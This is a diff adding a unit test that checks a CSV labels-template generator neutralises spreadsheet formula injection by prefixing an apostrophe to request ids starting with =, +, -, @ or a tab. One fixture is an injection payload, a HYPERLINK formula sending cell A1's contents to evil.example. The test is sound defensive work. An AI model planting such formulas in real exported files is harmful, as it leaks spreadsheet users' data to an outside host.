@@ -39,4 +39,10 @@ describe("served requests", () => {
   it("makes a labels CSV to fill in, one line per served row", () => {
     expect(labelsTemplate([one, { ...batch, rows: 2 }])).toBe('request_id,row,label\nreq-1,0,\n"a,""b""",0,\n"a,""b""",1,\n');
   });
+  it("keeps a request id a spreadsheet would run as a formula a text", () => {
+    const ids = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1", "-2", "@SUM(1)", "\tx"];
+    const csv = labelsTemplate(ids.map((request_id) => ({ ...one, request_id })));
+    expect(csv).toBe('request_id,row,label\n"\'=HYPERLINK(""http://evil.example/?""&A1,""x"")",0,\n\'+1,0,\n\'-2,0,\n' +
+                     "'@SUM(1),0,\n'\tx,0,\n");
+  });
 });
